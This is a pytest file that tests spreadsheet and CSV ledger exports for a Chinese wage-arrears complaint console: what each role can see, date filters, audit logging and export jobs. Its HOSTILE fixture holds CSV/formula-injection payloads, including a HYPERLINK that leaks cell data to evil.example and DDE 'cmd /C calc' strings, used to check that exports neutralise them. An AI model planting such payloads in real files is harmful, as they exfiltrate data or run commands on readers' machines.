"""The ledger (台账) and the assessment report through the console: files opened as a supervisor would open
them and compared row by row with the database; formulas never run; each user sees only their scope."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from sqlalchemy import select

from handlers.cli import main
from handlers.console.ledger import ledger_exporter
from handlers.runtime import services
from intake.case import cases
from intake.case.complaints import NewComplaint, create_complaint
from intake.foundation.models import AuditEntry, CaseFacts, ClaimLine, Complaint, ExportJob, Site, utcnow
from intake.runtime.worker import run_once
from intake.supervision.ledger import HEADER, LINES_HEADER
from tests.helpers import CAL, csrf_token, ctx, exported, flashed, login, make_accounts, routed, worker_pass

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "project_name": "+cmd|' /C calc'!A0",
    "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "-2+3\x07\r\n=1+1",
    "worker": "\t=1+2\x1b",  # PostgreSQL cannot even store a NUL
}


@pytest.fixture
def far_site(session):
    row = Site(code="S-9", name="罗庄物流园", jurisdiction_code="371311", industry="房屋建筑",
               public_token="tok_" + "f" * 20)
    session.add(row)
    session.commit()
    return row


@pytest.fixture
def ledger_cases(app, session, settings, lanshan_site, far_site):
    """Two cases in 兰山区: one on a site (housing), accepted; one without a site (so 人社), rejected, with hostile
    text everywhere; and one in 罗庄区."""
    accepted = routed(app, session, settings, lanshan_site)
    cases.acknowledge(session, accepted, ctx(app), actor="staff:a")
    cases.accept(session, accepted, ctx(app), actor="staff:a")
    cases.add_claim_line(session, accepted, actor="staff:a", worker_name=HOSTILE["worker"], amount_claimed=4000)
    complaint, _ = create_complaint(session, NewComplaint(
        channel="web", phone="13912340000", name=HOSTILE["name"], jurisdiction_code="371302", project_name=HOSTILE["project_name"],
        workers=2, amount=8000, free_text="欠钱", claim={"employer": HOSTILE["employer"]}))
    session.commit()
    worker_pass(app)
    session.expire_all()
    hostile = session.get(Complaint, complaint.id)
    cases.acknowledge(session, hostile, ctx(app), actor="staff:a")
    cases.reject(session, hostile, ctx(app), actor="staff:a", reason=HOSTILE["reason"])
    far = routed(app, session, settings, far_site, phone="13955550000")
    session.commit()
    return accepted, hostile, far




def xlsx_sheets(response):
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    return {ws.title: [list(r) for r in ws.iter_rows()] for ws in book.worksheets}


def csv_rows(response):
    assert response.data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel on Chinese Windows reads it right
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_the_ledger_lists_every_case_in_scope_row_by_row(app, client, session, ledger_cases):
    accepted, hostile, far = ledger_cases
    accounts = make_accounts(session)
    login(client, accounts["county"])
    sheets = xlsx_sheets(exported(app, client, "/console/ledger.xlsx"))
    header, *rows = sheets["台账"]
    assert tuple(c.value for c in header) == HEADER
    session.expire_all()
    expected = session.scalars(select(Complaint).where(Complaint.id.in_([accepted.id, hostile.id]))
                               .order_by(Complaint.id)).all()
    col = {name: i for i, name in enumerate(HEADER)}
    assert [r[col["投诉编号"]].value for r in rows] == [c.ticket_no for c in expected]  # 罗庄区 is not theirs
    for row, complaint in zip(rows, expected):
        value = lambda name: row[col[name]].value  # noqa: E731
        assert value("入账号") == (complaint.entry_no or None)
        assert value("欠薪金额（元）") == complaint.amount and value("人数") == complaint.workers
        assert value("区县代码") == "371302" and value("承办部门") == complaint.department.name
        assert value("项目（工地）") == (complaint.site.name if complaint.site else "'" + complaint.project_name)
        assert value("联系电话") == complaint.complainant.phone[:3] + "****" + complaint.complainant.phone[-4:]
        assert value("签收") == "按时"
    assert rows[0][col["状态"]].value == "已受理" and rows[0][col["入账号"]].value.startswith("371302-")
    assert rows[1][col["状态"]].value == "不予受理" and rows[1][col["不予受理日期"]].value
    lines_header, *lines = sheets["工人明细"]
    assert tuple(c.value for c in lines_header) == LINES_HEADER
    (line,) = session.scalars(select(ClaimLine).where(ClaimLine.complaint_id == accepted.id, ClaimLine.amount_claimed == 4000))
    claimed = LINES_HEADER.index("应发金额（元）")
    assert [(r[1].value, r[claimed].value) for r in lines
            if r[1].value == accepted.ticket_no and r[claimed].value == 4000] == [(accepted.ticket_no, line.amount_claimed)]

    received = rows[0][col["收到时间"]]
    assert isinstance(received.value, datetime) and received.is_date  # a real date a spreadsheet can sort
    zone = ZoneInfo(app.extensions["qingling"].settings.calendar.timezone)
    assert received.value == expected[0].created_at.astimezone(zone).replace(tzinfo=None, second=0, microsecond=0)
    assert isinstance(rows[1][col["不予受理日期"]].value, datetime) and rows[1][col["不予受理日期"]].is_date
    book = openpyxl.load_workbook(io.BytesIO(exported(app, client, "/console/ledger.xlsx").data))
    sheet = book["台账"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{get_column_letter(len(HEADER))}3"
    assert sheet.column_dimensions["D"].width >= 16 and sheet.column_dimensions["B"].width >= 8

    csv_header, *csv_body = csv_rows(exported(app, client, "/console/ledger.csv"))
    assert tuple(csv_header) == HEADER
    assert csv_body[0][col["收到时间"]] == received.value.strftime("%Y-%m-%d %H:%M")
    assert [r[col["投诉编号"]] for r in csv_body] == [c.ticket_no for c in expected]
    assert all(c.complainant.phone not in exported(app, client, "/console/ledger.csv").get_data(as_text=True)
               for c in expected)


def test_no_text_from_a_worker_becomes_a_formula(app, client, session, ledger_cases):
    _, hostile, _ = ledger_cases
    session.expire_all()
    assert session.get(CaseFacts, hostile.id).employer == HOSTILE["employer"].replace(" ", "")
    login(client, make_accounts(session)["admin"])
    sheets = xlsx_sheets(exported(app, client, "/console/ledger.xlsx"))
    cells = [c for rows in sheets.values() for r in rows for c in r if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells)
    texts = [c.value for c in cells]
    csv_texts = [v for path, args in (("/console/ledger.csv", {}), ("/console/ledger.csv", {"sheet": "lines"}))
                 for r in csv_rows(exported(app, client, path, **args)) for v in r]
    for found in (texts, csv_texts):
        assert not [t for t in found if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not [t for t in found if any(ord(ch) < 32 for ch in t)]
        assert "'" + HOSTILE["name"] in found and "'" + HOSTILE["project_name"] in found
        assert "'" + HOSTILE["employer"].replace(" ", "") in found
        assert "'-2+3  =1+1" in found and "'=1+2" in found  # controls gone, the line break a space


@pytest.mark.parametrize("who, expected", [("staff", 403), ("head", 200), ("far_county", 200), ("admin", 200)])
def test_who_may_export_and_what_they_get(app, client, session, ledger_cases, who, expected):
    accepted, hostile, far = ledger_cases
    login(client, make_accounts(session)[who])
    if expected == 403:
        assert client.get("/console/ledger.csv").status_code == 403
        assert not session.scalars(select(ExportJob)).all()
    else:
        tickets = {r[1] for r in csv_rows(exported(app, client, "/console/ledger.csv"))[1:]}
        assert tickets == {"head": {accepted.ticket_no}, "far_county": {far.ticket_no},
                           "admin": {accepted.ticket_no, hostile.ticket_no, far.ticket_no}}[who]
        entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).all()[-1]
        assert entry.detail["rows"] == len(tickets) and entry.detail["format"] == "csv"


def test_a_department_sees_only_its_own_cases_and_the_dashboard_agrees_with_the_ledger(app, client, session,
                                                                                        ledger_cases):
    accounts = make_accounts(session)
    login(client, accounts["other_staff"])  # 兰山区 人社: only the case without a site
    page = client.get("/console/dashboard").get_data(as_text=True)
    assert "<b>1</b>收到投诉" in page and "兰山区人力资源和社会保障局" in page and "住房和城乡建设局" not in page
    assert 'href="/console/dashboard"' not in page  # no nav link without the right to export
    client = app.test_client()
    login(client, accounts["county"])
    page = client.get("/console/dashboard").get_data(as_text=True)
    assert 'href="/console/dashboard"' in page and 'id="chart-daily"' in page and "<script>" not in page
    assert '<b>2</b>收到投诉' in page
    tickets = {r[1] for r in csv_rows(exported(app, client, "/console/ledger.csv"))[1:]}
    assert len(tickets) == 2


def test_the_date_filter_is_the_same_for_dashboard_and_ledger(app, client, session, ledger_cases):
    login(client, make_accounts(session)["admin"])
    tomorrow = (ledger_cases[0].created_at + timedelta(days=2)).date().isoformat()
    assert '<b>0</b>收到投诉' in client.get("/console/dashboard", query_string={"start": tomorrow}).get_data(as_text=True)
    assert len(csv_rows(exported(app, client, "/console/ledger.csv", start=tomorrow))) == 1  # the header only
    assert len(csv_rows(exported(app, client, "/console/ledger.csv", county="371311"))) == 2


def test_the_weekly_report_from_the_command_and_the_console(app, client, session, ledger_cases, tmp_path):
    today = ledger_cases[0].created_at.date() + timedelta(days=7)
    out = tmp_path / "report.xlsx"
    result = app.test_cli_runner().invoke(main, ["report", "weekly", "--county", "兰山区", "--on", today.isoformat(),
                                                 "-o", str(out)])
    assert result.exit_code == 0, result.output
    (sheet,) = openpyxl.load_workbook(out).worksheets
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    assert rows[0][:6] == ["区县", "承办部门", "收到投诉", "签收按时", "签收超期", "响应率"]
    received = {(r[0], r[1]): r[2] for r in rows[1:]}
    week_start = today - timedelta(days=today.weekday() + 7)
    in_week = week_start <= ledger_cases[0].created_at.astimezone().date()
    assert received[("全部", "合计")] == (2 if in_week else 0)
    login(client, make_accounts(session)["county"])
    page = client.get("/console/report", query_string={"period": "monthly"})
    assert page.status_code == 200 and "考核通报" in page.get_data(as_text=True)
    assert client.get("/console/report.xlsx").status_code == 200


def export_pass(app, now=None):
    """A worker pass that writes the exports asked for (and deletes expired ones), as `qingling worker` does."""
    return run_once(services(app).sessions, {}, CAL, services(app).settings, now=now or utcnow(),
                    exporter=ledger_exporter(app))


def test_a_ledger_is_written_off_the_request_path_and_only_its_requester_downloads_it(app, client, session,
                                                                                    ledger_cases):
    accounts = make_accounts(session)
    login(client, accounts["county"])
    dashboard = client.get("/console/dashboard").get_data(as_text=True)
    asked = client.post("/console/exports", data={"csrf_token": csrf_token(dashboard), "kind": "ledger_xlsx",
                                                  "county": "371302"})
    assert asked.status_code == 303
    page = asked.headers["Location"]
    waiting = client.get(page).get_data(as_text=True)
    assert "生成中" in waiting and 'http-equiv="refresh"' in waiting and "/file" not in waiting
    job_id = int(page.rsplit("/", 1)[1])
    assert client.get(f"{page}/file").status_code == 404  # not written yet
    assert client.get("/console/ledger.xlsx", query_string={"county": "371302"}).headers["Location"] == page

    other = app.test_client()
    login(other, accounts["admin"])
    assert other.get(page).status_code == 404 and other.get(f"{page}/file").status_code == 404

    assert export_pass(app).exported == 1
    ready = client.get(page).get_data(as_text=True)
    assert "可以下载" in ready and "共 3 行" in ready  # two cases, one worker's claim line and 'http-equiv="refresh"' not in ready
    response = client.get(f"{page}/file")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    tickets = {r[1].value for r in xlsx_sheets(response)["台账"][1:]}
    assert tickets == {ledger_cases[0].ticket_no, ledger_cases[1].ticket_no}  # 兰山区 only: the filter held
    assert other.get(f"{page}/file").status_code == 404
    session.expire_all()
    actions = [(e.action, e.detail.get("job_id")) for e in session.scalars(select(AuditEntry).order_by(AuditEntry.id))
               if e.action.startswith("export")]
    assert actions == [("export_requested", job_id)] * 2 + [("export", job_id), ("export_download", job_id)]
    assert "可以下载" in client.get("/console/dashboard").get_data(as_text=True)

    keep = timedelta(hours=services(app).settings.worker.export_keep_hours)
    export_pass(app, utcnow() + keep + timedelta(minutes=1))
    assert "已过期" in client.get(page).get_data(as_text=True) and client.get(f"{page}/file").status_code == 404
    session.expire_all()
    assert not ledger_exporter(app).path(session.get(ExportJob, job_id)).exists()


def test_an_unknown_export_is_refused_and_nothing_is_asked_for(app, client, session, ledger_cases):
    login(client, make_accounts(session)["county"])
    dashboard = client.get("/console/dashboard").get_data(as_text=True)
    refused = client.post("/console/exports", data={"csrf_token": csrf_token(dashboard), "kind": "everything"})
    assert refused.status_code == 303 and "请选择要导出的台账" in flashed(client, refused)
    assert client.get("/console/exports/999").status_code == 404
    assert not session.scalars(select(ExportJob)).all()
